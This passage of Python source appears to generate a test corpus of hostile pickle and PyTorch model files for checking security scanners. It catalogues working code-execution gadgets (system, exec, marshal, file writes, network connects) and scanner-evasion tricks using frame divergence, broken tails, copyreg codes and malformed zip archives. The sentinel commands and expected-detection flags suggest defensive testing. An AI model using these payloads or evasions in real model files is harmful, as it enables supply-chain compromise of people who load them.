                                                   a.s(x.cmd + " #")),
        "multiprocessing-spawnv_passfds": lambda a, x: a.call(
            a.g("multiprocessing.util", "spawnv_passfds"), a.b(TOUCH.encode()),
            a.l(a.b(b"touch"), a.b(str(x.sentinel).encode())), a.t()),
        "pty.spawn": lambda a, x: a.call(a.g("pty", "spawn"), argv_list(a, x)),
        "distutils.spawn": lambda a, x: a.call(a.g("distutils.spawn", "spawn"),
                                               argv_list(a, x)),
    })

    # -- stdlib functions that run Python source (idlelib, doctest, pydoc, timeit, ...)
    def on_instance(cls: tuple[str, str], method: str, *args: Callable[[Asm, Ctx], bytes],
                    ctor: Callable[[Asm, Ctx], list[bytes]] = lambda a, x: []) -> Recipe:
        """cls(*ctor).method(*args), through operator.methodcaller."""
        def recipe(a: Asm, x: Ctx) -> bytes:
            caller = a.call(a.g("operator", "methodcaller"), a.s(method),
                            *[f(a, x) for f in args])
            return a.call(caller, a.call(a.g(*cls), *ctor(a, x)))
        return recipe

    def code_arg(a: Asm, x: Ctx) -> bytes:
        return a.s(x.code)

    fam("code-runner-gadgets", [(4, "pickle"), (4, "zip")])({
        "idlelib.calltip.get_entity": lambda a, x: a.call(
            a.g("idlelib.calltip", "get_entity"), a.s(x.code)),
        "idlelib.autocomplete.get_entity": lambda a, x: a.call(
            a.g("idlelib.autocomplete", "AutoComplete.get_entity"), b"N", a.s(x.code)),
        "idlelib.debugobj.SetText": lambda a, x: a.call(
            a.g("idlelib.debugobj", "ObjectTreeItem.SetText"), a.d(), a.s(x.code)),
        "doctest.debug_script": lambda a, x: a.call(a.g("doctest", "debug_script"),
                                                    a.s(x.code), a.true()),
        "timeit.timeit-setup": lambda a, x: a.call(a.g("timeit", "timeit"), a.s("pass"),
                                                   a.s(x.code), b"N", a.i(1)),
        "timeit.Timer-timeit": on_instance(("timeit", "Timer"), "timeit",
                                           lambda a, x: a.i(1),
                                           ctor=lambda a, x: [a.s("pass"), a.s(x.code)]),
        "cProfile.run": lambda a, x: a.call(a.g("cProfile", "run"), a.s(x.code)),
        "cProfile.runctx": lambda a, x: a.call(a.g("cProfile", "runctx"), a.s(x.code),
                                               a.d(), a.d()),
        "profile.run": lambda a, x: a.call(a.g("profile", "run"), a.s(x.code)),
        "pdb.run": lambda a, x: a.call(a.g("pdb", "run"), a.s(x.code)),  # stdin is empty
        "bdb.Bdb-run": on_instance(("bdb", "Bdb"), "run", code_arg),
        "trace.Trace-runctx": on_instance(("trace", "Trace"), "runctx", code_arg,
                                          lambda a, x: a.d(), lambda a, x: a.d(),
                                          ctor=lambda a, x: [a.i(0), a.i(0)]),
        "code.InteractiveInterpreter-runsource": on_instance(
            ("code", "InteractiveInterpreter"), "runsource", code_arg),
        "numpy.testing-runstring": lambda a, x: a.call(
            a.g("numpy.testing._private.utils", "runstring"), a.s(x.code), a.d()),
        "numpy.f2py-getlincoef": lambda a, x: a.call(
            a.g("numpy.f2py.crackfortran", "getlincoef"), a.s(x.code), a.l()),
    })

    # -- writing files (picklescan logging_FileHandler, io_FileIO, GHSA-m273)
    def copyfile(a: Asm, x: Ctx) -> bytes:
        source = x.helper("source.txt", b"peer corpus\n")
        return a.call(a.g("shutil", "copyfile"), a.s(str(source)), a.s(str(x.sentinel)))

    fam("file-write-gadgets", PAIR,
        matrices={"pathlib.PosixPath.touch": DOTTED, "pathlib.Path.write_text": DOTTED})({
        "logging.FileHandler": lambda a, x: a.call(a.g("logging", "FileHandler"),
                                                   a.s(str(x.sentinel))),
        "logging.handlers.RotatingFileHandler": lambda a, x: a.call(
            a.g("logging.handlers", "RotatingFileHandler"), a.s(str(x.sentinel))),
        "io.FileIO": lambda a, x: a.call(a.g("io", "FileIO"), a.s(str(x.sentinel)),
                                         a.s("w")),
        "_io.open": lambda a, x: a.call(a.g("_io", "open"), a.s(str(x.sentinel)), a.s("w")),
        "builtins.open": lambda a, x: a.call(a.g("builtins", "open"), a.s(str(x.sentinel)),
                                             a.s("w")),
        "codecs.open": lambda a, x: a.call(a.g("codecs", "open"), a.s(str(x.sentinel)),
                                           a.s("w")),
        "shutil.copyfile": copyfile,
        "distutils.write_file": lambda a, x: a.call(
            a.g("distutils.file_util", "write_file"), a.s(str(x.sentinel)), a.l(a.s("x"))),
        "tempfile.mkstemp": lambda a, x: a.call(a.g("tempfile", "mkstemp"), a.s(""),
                                                a.s(x.sentinel.name),
                                                a.s(str(x.sentinel.parent))),
        "pathlib.PosixPath.touch": lambda a, x: a.call(
            a.g("pathlib", "PosixPath.touch"),
            a.call(a.g("pathlib", "PosixPath"), a.s(str(x.sentinel)))),
        "pathlib.Path.write_text": lambda a, x: a.call(
            a.g("pathlib", "Path.write_text"),
            a.call(a.g("pathlib", "PosixPath"), a.s(str(x.sentinel))), a.s("x")),
    })

    # -- operator gadgets (picklescan GHSA-955r, malicious12)
    fam("operator-gadgets", PAIR,
        matrices={"operator.call": [(4, "pickle"), (2, "zip")]})({
        "methodcaller": lambda a, x: a.call(a.call(
            a.g("operator", "methodcaller"), a.s("system"), a.s(x.cmd)), a.module("os")),
        "_operator.methodcaller": lambda a, x: a.call(a.call(
            a.g("_operator", "methodcaller"), a.s("system"), a.s(x.cmd)), a.module("posix")),
        "attrgetter": lambda a, x: a.call(a.call(a.call(
            a.g("operator", "attrgetter"), a.s("system")), a.module("posix")), a.s(x.cmd)),
        "itemgetter-sys-modules": lambda a, x: a.call(a.attr(a.call(a.call(
            a.g("operator", "itemgetter"), a.s("posix")), a.g("sys", "modules")), "system"),
            a.s(x.cmd)),
        "operator.call": lambda a, x: a.call(a.g("operator", "call"), a.g("posix", "system"),
                                             a.s(x.cmd)),
    })

    # -- functools.partial / reduce wrapping
    fam("functools-wrapping", PAIR)({
        "partial-system": lambda a, x: a.call(a.call(a.g("functools", "partial"),
                                                     a.g("posix", "system"), a.s(x.cmd))),
        "partial-exec": lambda a, x: a.call(a.call(a.g("functools", "partial"),
                                                   a.g("builtins", "exec"), a.s(x.code))),
        "partial-of-partial": lambda a, x: a.call(a.call(
            a.g("functools", "partial"),
            a.call(a.g("functools", "partial"), a.g("posix", "system")), a.s(x.cmd))),
        "partial-kwargs-shell": lambda a, x: a.kw(a.g("subprocess", "check_call"),
                                                  [a.s(x.cmd)], {"shell": a.true()}),
        "_functools.partial": lambda a, x: a.call(a.call(a.g("_functools", "partial"),
                                                         a.g("posix", "system"), a.s(x.cmd))),
        "functools.reduce-exec": lambda a, x: a.call(
            a.g("functools", "reduce"), a.g("builtins", "exec"), a.l(a.s(x.code), a.d())),
    })

    # -- dotted names under modules that look harmless (or sit on an allowlist)
    def typing_only(a: Asm, x: Ctx) -> bytes:
        posix = a.call(a.call(a.g("typing", "operator.itemgetter"), a.s("posix")),
                       a.g("typing", "sys.modules"))
        return a.call(a.call(a.g("typing", "operator.methodcaller"), a.s("system"),
                             a.s(x.cmd)), posix)

    def collections_builtins(a: Asm, x: Ctx) -> bytes:
        exec_ = a.call(a.call(a.g("fractions", "operator.itemgetter"), a.s("exec")),
                       a.g("collections", "__builtins__"))
        return a.call(exec_, a.s(x.code))

    def enum_compile(a: Asm, x: Ctx) -> bytes:
        code = a.call(a.g("enum", "bltns.compile"), a.s(x.code), a.s("<peer>"), a.s("exec"))
        return a.call(a.call(a.g("typing", "types.FunctionType"), code, a.d()))

    fam("harmless-prefix-dotted-names", DOTTED)({
        "typing.operator-and-sys.modules": typing_only,
        "collections.__builtins__-exec": collections_builtins,
        "enum.bltns.compile-FunctionType": enum_compile,
        "pathlib.os.posix_spawn": lambda a, x: a.call(
            a.g("pathlib", "os.posix_spawn"), a.s(TOUCH), argv_list(a, x), a.d()),
        "argparse._os.popen": lambda a, x: a.call(a.g("argparse", "_os.popen"), a.s(x.cmd)),
        "uuid.os.system": lambda a, x: a.call(a.g("uuid", "os.system"), a.s(x.cmd)),
        "subprocess.os.system": lambda a, x: a.call(a.g("subprocess", "os.system"),
                                                    a.s(x.cmd)),
        "torch.os.system": lambda a, x: a.call(a.g("torch", "os.system"), a.s(x.cmd)),
        "collections-only-exec": lambda a, x: a.call(a.call(
            a.g("collections", "OrderedDict.get"), a.call(
                a.g("collections", "OrderedDict.get"),
                a.g("collections", "Counter.__init__.__globals__"), a.s("__builtins__")),
            a.s("exec")), a.s(x.code)),
        "torch-allowlisted-name-globals-exec": lambda a, x: a.call(a.call(
            a.g("collections", "OrderedDict.get"), a.call(
                a.g("collections", "OrderedDict.get"),
                a.g("torch._utils", "_rebuild_tensor_v2.__globals__"), a.s("__builtins__")),
            a.s("exec")), a.s(x.code)),
        "global-opcode-dotted-name": lambda a, x: a.call(
            b"cpathlib\nos.posix_spawn\n", a.s(TOUCH), argv_list(a, x), a.d()),
        "global-opcode-dotted-subprocess": lambda a, x: a.call(
            b"cpathlib\nos.popen\n", a.s(x.cmd)),
        "collections.namedtuple-globals": lambda a, x: a.call(a.call(
            a.call(a.g("typing", "operator.itemgetter"), a.s("exec")),
            a.call(a.call(a.g("typing", "operator.itemgetter"), a.s("__builtins__")),
                   a.g("collections", "namedtuple.__globals__"))), a.s(x.code)),
    })

    # -- code objects from marshal (fickling GHSA-565g)
    def marshal_code(x: Ctx) -> bytes:
        return marshal.dumps(compile(x.code, "<peer>", "exec"))

    fam("marshal-code-objects", [(3, "pickle"), (4, "zip")])({
        "FunctionType-marshal": lambda a, x: a.call(a.call(
            a.g("types", "FunctionType"), a.call(a.g("marshal", "loads"),
                                                 a.b(marshal_code(x))), a.d())),
        "exec-marshal": lambda a, x: a.call(a.g("builtins", "exec"), a.call(
            a.g("marshal", "loads"), a.b(marshal_code(x)))),
        "eval-marshal": lambda a, x: a.call(a.g("builtins", "eval"), a.call(
            a.g("marshal", "loads"), a.b(marshal_code(x)))),
    })

    # -- network (picklescan Malicious3/6, fickling SSRF)
    fam("network-gadgets", PAIR)({
        "socket.create_connection": lambda a, x: a.call(
            a.g("socket", "create_connection"), a.t(a.s(NOWHERE[0]), a.i(NOWHERE[1]))),
        "smtplib.SMTP": lambda a, x: a.call(a.g("smtplib", "SMTP"), a.s(NOWHERE[0]),
                                            a.i(NOWHERE[1])),
        "ftplib.FTP-connect": on_instance(("ftplib", "FTP"), "connect",
                                          lambda a, x: a.s(NOWHERE[0]),
                                          lambda a, x: a.i(NOWHERE[1])),
        "urllib.request.urlopen": lambda a, x: a.call(a.g("urllib.request", "urlopen"),
                                                      a.s(f"http://{NOWHERE[0]}:{NOWHERE[1]}/")),
        "http.client-connect": on_instance(("http.client", "HTTPConnection"), "connect",
                                           ctor=lambda a, x: [a.s(NOWHERE[0]),
                                                              a.i(NOWHERE[1])]),
    })
    return fams


# --------------------------------------------------------------------------- special families


class Builder:
    """Collects samples under ``root``: files/, sentinels/, helpers/."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.out: list[Sample] = []

    def ctx(self, stem: str) -> Ctx:
        return Ctx(self.root / "sentinels" / stem, self.root / "helpers" / stem)

    def add(self, family: str, variant: str, container: str, make: Callable[[Ctx], bytes],
            *, weights: bool | None = None, protocol: int | None = None,
            expect: bool | None = True, setup: dict | None = None, note: str = "") -> None:
        name = f"{family}/{variant}"
        stem = f"{family}__{variant}".replace("/", "_")
        x = self.ctx(stem)
        suffix = SUFFIX.get(container, ".pt")
        if weights is None:
            weights = container in ("zip", "legacy")

        def build() -> bytes:
            return make(x)

        def helpers() -> dict[Path, bytes]:
            if not x.files:
                make(x)
            return dict(x.files)

        self.out.append(Sample(family, name, self.root / "files" / (stem + suffix),
                               x.sentinel, container, weights, protocol, expect, build,
                               helpers, setup or {}, note))


def _recipe_samples(b: Builder) -> None:
    for fam in _families():
        for recipe_name, recipe in fam.recipes.items():
            for p, container in fam.matrices.get(recipe_name, fam.matrix):
                def make(x: Ctx, recipe=recipe, p=p, container=container) -> bytes:
                    a = Asm(p)
                    return contain(container, recipe(a, x), a)
                b.add(fam.name, f"{recipe_name}-p{p}-{container}", container, make,
                      protocol=p, expect=fam.expect(recipe_name, p, container),
                      note=fam.note)


FIRST_OPCODES: list[tuple[str, bytes]] = [
    # (label, lead): the lead pushes something and pops it; "" starts with the payload
    ("UNICODE-V", b"Vhello\n0"),
    ("STRING-S", b"S'hi'\n0"),
    ("MARK-(", b"(1"),
    ("INT-I", b"I7\n0"),
    ("INT-bool-I01", b"I01\n0"),
    ("LONG-L", b"L7L\n0"),
    ("FLOAT-F", b"F1.5\n0"),
    ("NONE-N", b"N0"),
    ("GLOBAL-c", b""),
    ("EMPTY_TUPLE", b")0"),
    ("EMPTY_LIST", b"]0"),
    ("EMPTY_DICT", b"}0"),
    ("BININT1-K", b"K\x070"),
    ("BININT2-M", b"M\x07\x000"),
    ("BININT-J", b"J\x07\x00\x00\x000"),
    ("BINUNICODE-X", b"X\x02\x00\x00\x00hi0"),
    ("SHORT_BINSTRING-U", b"U\x02hi0"),
    ("BINSTRING-T", b"T\x02\x00\x00\x00hi0"),
    ("BINFLOAT-G", b"G" + struct.pack(">d", 1.5) + b"0"),
    ("NEWTRUE", b"\x880"),
    ("NEWFALSE", b"\x890"),
    ("SHORT_BINUNICODE", b"\x8c\x02hi0"),
    ("SHORT_BINBYTES-C", b"C\x02hi0"),
    ("BINBYTES-B", b"B\x02\x00\x00\x00hi0"),
    ("BINUNICODE8", b"\x8d" + struct.pack("<Q", 2) + b"hi0"),
    ("BINBYTES8", b"\x8e" + struct.pack("<Q", 2) + b"hi0"),
    ("BYTEARRAY8", b"\x96" + struct.pack("<Q", 2) + b"hi0"),
    ("EMPTY_SET", b"\x8f0"),
    ("LONG1", b"\x8a\x01\x070"),
    ("LONG4", b"\x8b\x01\x00\x00\x00\x070"),
    ("PROTO-0", b"\x80\x00"),  # PROTO may declare 0 or 1: the unpickler accepts it
    ("PROTO-1", b"\x80\x01"),
    ("FRAME", b"<frame>"),
]


def _first_opcode_samples(b: Builder) -> None:
    """Protocol 0/1 pickles have no PROTO opcode: the first byte can be any opcode."""
    def body(a: Asm, x: Ctx) -> bytes:
        return a.call(a.g("posix", "system"), a.s(x.cmd))

    zip_too = {"UNICODE-V", "MARK-(", "INT-I", "NONE-N", "GLOBAL-c", "EMPTY_DICT",
               "SHORT_BINUNICODE", "BINUNICODE-X", "FRAME"}
    legacy_too = {"UNICODE-V", "STRING-S", "INT-I", "GLOBAL-c"}
    for label, lead in FIRST_OPCODES:
        for container in ("pickle", *(["zip-bare"] if label == "FRAME" else []),
                          *(["zip"] if label in zip_too and label != "FRAME" else []),
                          *(["legacy"] if label in legacy_too else [])):
            def make(x: Ctx, lead=lead, container=container) -> bytes:
                a = Asm(0)
                pay = body(a, x)
                if lead == b"<frame>":  # FRAME with no PROTO before it
                    data = frame(len(pay) + 1) + pay + b"."
                    return data if container == "pickle" else zip_bare(data)
                return contain(container, pay, a, lead)
            b.add("first-opcode", f"{label}-{container}", container, make, protocol=0)
    b.add("first-opcode", "INST-after-MARK-pickle", "pickle",
          lambda x: b"(" + Asm(0).s(x.cmd) + b"iposix\nsystem\n.", protocol=0)



TAILS: dict[str, bytes] = {
    "truncated": b"}q\x00(X",
    "bad-opcode": b"\xff",
    "no-stop": b"",
    "missing-memo": b"h\x63",
    "type-confusion": b"J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93",
    "stack-underflow": b"0000.",
    "invalid-utf8-global": b"cmod\n\xf8\n",
    "junk-after-stop": b".\n\n\t\t",
}


def _broken_tail_samples(b: Builder) -> None:
    """The payload, then a pickle that breaks (picklescan broken_model, keyerror and
    type-confusion exploits): the loader has run the payload before it fails; a scanner
    that gives up on the parse error reports nothing."""
    for label, tail in TAILS.items():
        for container in ("pickle", "zip-bare", "legacy-bare"):
            def make(x: Ctx, tail=tail, container=container) -> bytes:
                a = Asm(2)
                data = a.header() + a.call(a.g("posix", "system"), a.s(x.cmd)) + tail
                if container == "pickle":
                    return data
                return zip_bare(data) if container == "zip-bare" else legacy_bare(data)
            b.add("broken-tail", f"{label}-{container}", container, make, protocol=2)


def _hidden_system(x: Ctx) -> bytes:
    return b"cposix\nsystem\n(V" + _escape0(x.cmd) + b"\ntR"


def _frame_samples(b: Builder) -> None:
    """FRAME lengths that disagree with the opcodes: CPython's C unpickler ignores frame
    boundaries when it reads from bytes, drops the unread rest of a frame when it reads
    from a file object (io.BytesIO in torch's zip loader), and pickle.py refuses both."""
    def straddle(k: int, header: bool = True) -> Callable[[Ctx], bytes]:
        return lambda x: ((b"\x80\x04" if header else b"") + frame(k) + _hidden_system(x)
                          + b".")

    def binbytes_hide(pad: int) -> Callable[[Ctx], bytes]:
        # file mode reads BINBYTES' length after the frame (1 byte of data, then the
        # hidden call); bytes mode reads 0x107 bytes over it
        def make(x: Ctx) -> bytes:
            hidden = _hidden_system(x) + b"("
            assert len(hidden) <= 261
            pre = b"\x80\x04N"
            if pad:
                pre += b"V" + b"a" * pad + b"\n0"
            return (pre + b"(" + frame(2) + b"B\x07" + b"\x01\x00\x00" + b"\x00" + b"\x00"
                    + hidden.ljust(261, b"N") + b"1.")
        return make

    def short_binbytes_show(x: Ctx) -> bytes:
        # bytes mode runs the region file mode skips
        hidden = _hidden_system(x) + b"0"
        k = len(hidden)
        x0 = k + 8
        return (b"\x80\x04" + frame(k + 2) + b"C" + bytes([x0]) + b"D" * k
                + b"F" * (x0 - k) + hidden + b"N.")

    def global_readline(x: Ctx) -> bytes:
        return (b"\x80\x04" + frame(3) + b"czz" + b"posix\nsystem\n(V" + _escape0(x.cmd)
                + b"\ntR.")

    def global_readline_getoutput(x: Ctx) -> bytes:
        # the name ckwidget can see (zzsubprocess.getoutput) is not the one torch runs
        return (b"\x80\x04" + frame(3) + b"czz" + b"subprocess\ngetoutput\n(V"
                + _escape0(x.cmd) + b"\ntR.")

    def nested_frames(x: Ctx) -> bytes:
        inner = _hidden_system(x) + b"."
        outer = b"N0" + frame(len(inner)) + inner
        return b"\x80\x04" + frame(len(outer)) + outer

    def overlong(x: Ctx) -> bytes:
        body = _hidden_system(x) + b"."
        return b"\x80\x04" + frame(len(body) + 4096) + body

    def zero_frames(x: Ctx) -> bytes:
        return b"\x80\x04" + frame(0) + frame(0) + _hidden_system(x) + b"."

    def split_frames(x: Ctx) -> bytes:
        body = _hidden_system(x)
        half = body.index(b"(V")
        return (b"\x80\x04" + frame(half) + body[:half] + frame(len(body) - half + 1)
                + body[half:] + b".")

    variants: dict[str, tuple[Callable[[Ctx], bytes], bool | None]] = {
        "straddle-k1": (straddle(1), None),
        "straddle-k5": (straddle(5), None),
        "straddle-k20": (straddle(20), None),
        "straddle-headerless": (straddle(4, header=False), None),
        "binbytes-length-hides-call": (binbytes_hide(0), None),
        "binbytes-length-hides-call-padded": (binbytes_hide(8192 * 16 - 17), None),
        "short-binbytes-shows-call": (short_binbytes_show, None),
        "global-line-straddle": (global_readline, None),
        "global-line-straddle-getoutput": (global_readline_getoutput, None),
        "frame-inside-frame": (nested_frames, None),
        "frame-longer-than-file": (overlong, False),
        "empty-frames": (zero_frames, True),
        "payload-split-over-frames": (split_frames, True),
    }
    for variant, (make, expect) in variants.items():
        containers = ["pickle", "zip-bare", "legacy-bare"]
        if variant.endswith("padded"):
            containers = ["pickle", "legacy-bare"]
        for container in containers:
            def wrap(x: Ctx, make=make, container=container) -> bytes:
                data = make(x)
                if container == "pickle":
                    return data
                return zip_bare(data) if container == "zip-bare" else legacy_bare(data)
            b.add("frame-divergence", f"{variant}-{container}", container, wrap,
                  protocol=4, expect=expect)

    # the same divergences ahead of the real state dict in a torch archive: torch runs
    # the hidden call (file mode), then loads the weights
    def with_weights(make: Callable[[Ctx], bytes]) -> Callable[[Ctx], bytes]:
        def build(x: Ctx) -> bytes:
            data = make(x)
            assert data[:2] == b"\x80\x04" and data[-1:] == b"."
            return zip_bytes(with_data_pkl(data[:-1] + b"0" + benign_data_pkl()[2:]))
        return build
    for variant, make in (("binbytes-length-hides-call", binbytes_hide(0)),
                          ("short-binbytes-shows-call", short_binbytes_show),
                          ("global-line-straddle-getoutput", global_readline_getoutput)):
        b.add("frame-divergence", f"{variant}-zip-with-weights", "zip", with_weights(make),
              weights=True, protocol=4, expect=None)


def _ext_samples(b: Builder) -> None:
    """copyreg extension codes: the registry is empty in a fresh interpreter, so a code
    runs only if the victim process registered it, or if the pickle registers it first."""
    codes = {"EXT1": (240, b"\x82\xf0"), "EXT2": (7936, b"\x83" + struct.pack("<H", 7936)),
             "EXT4": (0x123456, b"\x84" + struct.pack("<i", 0x123456))}
    for label, (code, op) in codes.items():
        def plain(x: Ctx, op=op) -> bytes:
            a = Asm(2)
            return a.whole(op + a.t(a.s(x.cmd)) + b"R")

        def self_registered(x: Ctx, op=op, code=code) -> bytes:
            a = Asm(2)
            return (a.call(a.g("copyreg", "add_extension"), a.s("posix"), a.s("system"),
                           a.i(code)) + b"0" + op + a.t(a.s(x.cmd)) + b"R")

        b.add("copyreg-ext", f"{label}-clean-registry", "pickle", plain, protocol=2,
              expect=False)
        b.add("copyreg-ext", f"{label}-victim-registered", "pickle", plain, protocol=2,
              setup={"ext": [["posix", "system", code]]})
        b.add("copyreg-ext", f"{label}-self-registered", "pickle",
              lambda x, f=self_registered: Asm(2).whole(f(x)), protocol=2)
        b.add("copyreg-ext", f"{label}-self-registered-zip", "zip",
              lambda x, f=self_registered: zip_with_body(f(x), Asm(2)), protocol=2)


def _rename_in_headers(data: bytes, old: bytes, new: bytes, *, local: bool,
                       central: bool) -> bytes:
    assert len(old) == len(new)
    out = bytearray(data)
    for sig, name_at, len_at, wanted in ((b"PK\x03\x04", 30, 26, local),
                                         (b"PK\x01\x02", 46, 28, central)):
        if not wanted:
            continue
        pos = out.find(sig)
        while pos >= 0:
            (n,) = struct.unpack_from("<H", out, pos + len_at)
            if bytes(out[pos + name_at:pos + name_at + n]) == old:
                out[pos + name_at:pos + name_at + n] = new
                break
            pos = out.find(sig, pos + 4)
        else:
            raise KeyError(old)
    return bytes(out)


def _set_flags(data: bytes, name: bytes, flags: int) -> bytes:
    out = bytearray(data)
    for sig, name_at, len_at, flag_at in ((b"PK\x03\x04", 30, 26, 6),
                                          (b"PK\x01\x02", 46, 28, 8)):
        pos = out.find(sig)
        while pos >= 0:
            (n,) = struct.unpack_from("<H", out, pos + len_at)
            if bytes(out[pos + name_at:pos + name_at + n]) == name:
                (old,) = struct.unpack_from("<H", out, pos + flag_at)
                struct.pack_into("<H", out, pos + flag_at, old | flags)
                break
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _set_crc(data: bytes, name: bytes, crc: int) -> bytes:
    out = bytearray(data)
    for sig, name_at, len_at, crc_at in ((b"PK\x03\x04", 30, 26, 14),
                                         (b"PK\x01\x02", 46, 28, 16)):
        pos = out.find(sig)
        while pos >= 0:
            (n,) = struct.unpack_from("<H", out, pos + len_at)
            if bytes(out[pos + name_at:pos + name_at + n]) == name:
                struct.pack_into("<I", out, pos + crc_at, crc)
                break
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _hostile_data_pkl(x: Ctx) -> bytes:
    a = Asm(2)
    return embed(a.call(a.g("posix", "system"), a.s(x.cmd)), a)


def _zip_trick_samples(b: Builder) -> None:
    """Archive-level disagreements between torch's reader and zipfile-based scanners."""
    pkl = b"archive/data.pkl"

    def hostile_records(x: Ctx) -> list[tuple[str, bytes]]:
        return with_data_pkl(_hostile_data_pkl(x))

    def benign_zip() -> bytes:
        return zip_bytes(list(_zip_records(True)))

    def add(family: str, variant: str, make: Callable[[Ctx], bytes], *,
            expect: bool | None = None, weights: bool = True) -> None:
        b.add(family, variant, "zip-trick", make, weights=weights, protocol=2, expect=expect)

    # local header names that lie (picklescan malicious1_central_directory)
    add("zip-local-vs-central-names", "local-name-of-data.pkl-lies",
        lambda x: _rename_in_headers(zip_bytes(hostile_records(x)), pkl,
                                     b"archive/data.pkX", local=True, central=False),
        expect=True)
    add("zip-local-vs-central-names", "central-name-of-data.pkl-lies",
        lambda x: _rename_in_headers(zip_bytes(hostile_records(x)), pkl,
                                     b"archive/data.pkX", local=False, central=True),
        expect=False)

    def swapped(x: Ctx) -> bytes:
        # the hostile record's local header says notes.txt-ish, the benign one's says
        # data.pkl; the central directory points data.pkl at the hostile bytes
        recs = with_data_pkl(_hostile_data_pkl(x))
        recs.append(("archive/data.pkZ", benign_data_pkl()))
        data = zip_bytes(recs)
        data = _rename_in_headers(data, pkl, b"archive/data.pkY", local=True, central=False)
        return _rename_in_headers(data, b"archive/data.pkZ", pkl, local=True, central=False)
    add("zip-local-vs-central-names", "local-names-swapped", swapped, expect=True)

    def first_prefix(full: bool) -> Callable[[Ctx], bytes]:
        def make(x: Ctx) -> bytes:
            recs = [("evil/data.pkl", _hostile_data_pkl(x))]
            if full:
                recs += [("evil/" + n.split("/", 1)[1], d) for n, d in _zip_records(True)
                         if not n.endswith("data.pkl")]
            return zip_bytes(recs + list(_zip_records(True)))
        return make
    # torch 2.x takes the prefix from the first entry but wants every record under it
    add("zip-local-vs-central-names", "first-entry-prefix-hostile", first_prefix(False),
        expect=False)
    add("zip-local-vs-central-names", "first-entry-prefix-hostile-complete",
        first_prefix(True), expect=False)
    add("zip-local-vs-central-names", "prefix-not-archive",
        lambda x: zip_bytes([("mymodel/" + n.split("/", 1)[1], d)
                             for n, d in hostile_records(x)]), expect=True)

    # more than one archive in a file, or junk in front (torch checks PK\3\4 at byte 0)
    add("zip-concatenation", "benign-then-hostile-archive",
        lambda x: benign_zip() + zip_bytes(hostile_records(x)))
    add("zip-concatenation", "hostile-then-benign-archive",
        lambda x: zip_bytes(hostile_records(x)) + benign_zip())
    add("zip-concatenation", "junk-then-hostile-archive",
        lambda x: b"JUNK" * 16 + zip_bytes(hostile_records(x)), expect=False)
    add("zip-concatenation", "pickle-then-benign-archive-polyglot",
        lambda x: inner_system_pickle(x) + benign_zip(), expect=True)

    def fake_magic_polyglot(x: Ctx) -> bytes:
        a = Asm(2)
        magic = a.whole(a.call(a.g("builtins", "eval"),
                               a.s(f"({x.code}, {LEGACY_MAGIC:#x})[1]")))
        return magic + benign_zip()
    add("zip-concatenation", "legacy-magic-eval-then-benign-archive", fake_magic_polyglot,
        expect=True)

    # duplicate records (torch and zipfile pick different ones)
    def duplicate(hostile_first: bool) -> Callable[[Ctx], bytes]:
        def make(x: Ctx) -> bytes:
            first, second = _hostile_data_pkl(x), benign_data_pkl()
            if not hostile_first:
                first, second = second, first
            recs = with_data_pkl(first)
            recs.append(("archive/data.pkl", second))
            import warnings
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                return zip_bytes(recs)
        return make
    add("zip-duplicate-records", "hostile-first", duplicate(True))
    add("zip-duplicate-records", "hostile-second", duplicate(False))

    def dup_local_only(x: Ctx) -> bytes:
        # a stray local record named data.pkl that no central entry points at
        stray = zip_bytes([("archive/data.pkl", _hostile_data_pkl(x))])
        cut = stray.index(b"PK\x01\x02")
        return stray[:cut] + benign_zip()
    add("zip-duplicate-records", "stray-local-record-before-archive", dup_local_only)

    # payloads in records torch.load never reads
    for record in ("extra/evil.pkl", "data/evil", "constants.pkl", ".data/evil.pkl",
                   "data.pkl.orig", "byteorder.pkl"):
        def hidden(x: Ctx, record=record) -> bytes:
            a = Asm(4)
            payload = a.whole(a.call(a.g("posix", "system"), a.s(x.cmd)))
            return zip_bytes([*_zip_records(True), (f"archive/{record}", payload)])
        add("zip-unread-records", record.replace("/", "_"), hidden, expect=False)
    add("zip-unread-records", "other-folder-data.pkl",
        lambda x: zip_bytes([*_zip_records(True), ("other/data.pkl", inner_system_pickle(x))]),
        expect=False)

    # flag bits, CRCs, compression, zip64 (picklescan malicious1_0x1/0x20/0x40, _crc)
    for flag in (0x01, 0x08, 0x20, 0x40):
        add("zip-flags-crc-method", f"flag-0x{flag:02x}",
            lambda x, flag=flag: _set_flags(zip_bytes(hostile_records(x)), pkl, flag))
    add("zip-flags-crc-method", "crc-mismatch",
        lambda x: _set_crc(zip_bytes(hostile_records(x)), pkl, 0xDEADBEEF))
    add("zip-flags-crc-method", "deflated-data.pkl",
        lambda x: zip_bytes(hostile_records(x), deflate={"archive/data.pkl"}))

    def zip64(x: Ctx) -> bytes:
        old = zipfile.ZIP64_LIMIT, zipfile.ZIP_FILECOUNT_LIMIT
        zipfile.ZIP64_LIMIT = zipfile.ZIP_FILECOUNT_LIMIT = 0
        try:
            return zip_bytes(hostile_records(x))
        finally:
            zipfile.ZIP64_LIMIT, zipfile.ZIP_FILECOUNT_LIMIT = old
    add("zip-flags-crc-method", "zip64", zip64)


def _legacy_stack_samples(b: Builder) -> None:
    """torch.load runs every pickle of a legacy file, not only the main one."""
    for p in (0, 2):
        def magic(x: Ctx, p=p) -> bytes:
            a = Asm(p)
            seg = legacy_segments()
            pay = a.whole(a.call(a.g("builtins", "eval"),
                                 a.s(f"({x.code}, {LEGACY_MAGIC:#x})[1]")))
            return pay + b"".join(seg[1:])

        def version(x: Ctx, p=p) -> bytes:
            a = Asm(p)
            seg = legacy_segments()
            pay = a.whole(a.call(a.g("builtins", "eval"), a.s(f"({x.code}, 1001)[1]")))
            return seg[0] + pay + b"".join(seg[2:])

        def sys_info(x: Ctx, p=p) -> bytes:
            a = Asm(p)
            seg = legacy_segments()
            pay = a.header() + a.call(a.g("posix", "system"), a.s(x.cmd)) + b"0" + seg[2][2:]
            return b"".join(seg[:2]) + pay + b"".join(seg[3:])

        def keys(x: Ctx, p=p) -> bytes:
            a = Asm(p)
            seg = legacy_segments()
            pay = a.header() + a.call(a.g("posix", "system"), a.s(x.cmd)) + b"0" + seg[4][2:]
            return b"".join(seg[:4]) + pay + seg[5]

        for label, make in (("magic-number", magic), ("protocol-version", version),
                            ("sys-info", sys_info), ("storage-keys", keys)):
            b.add("legacy-stacked-pickles", f"{label}-p{p}", "legacy", make, protocol=p)


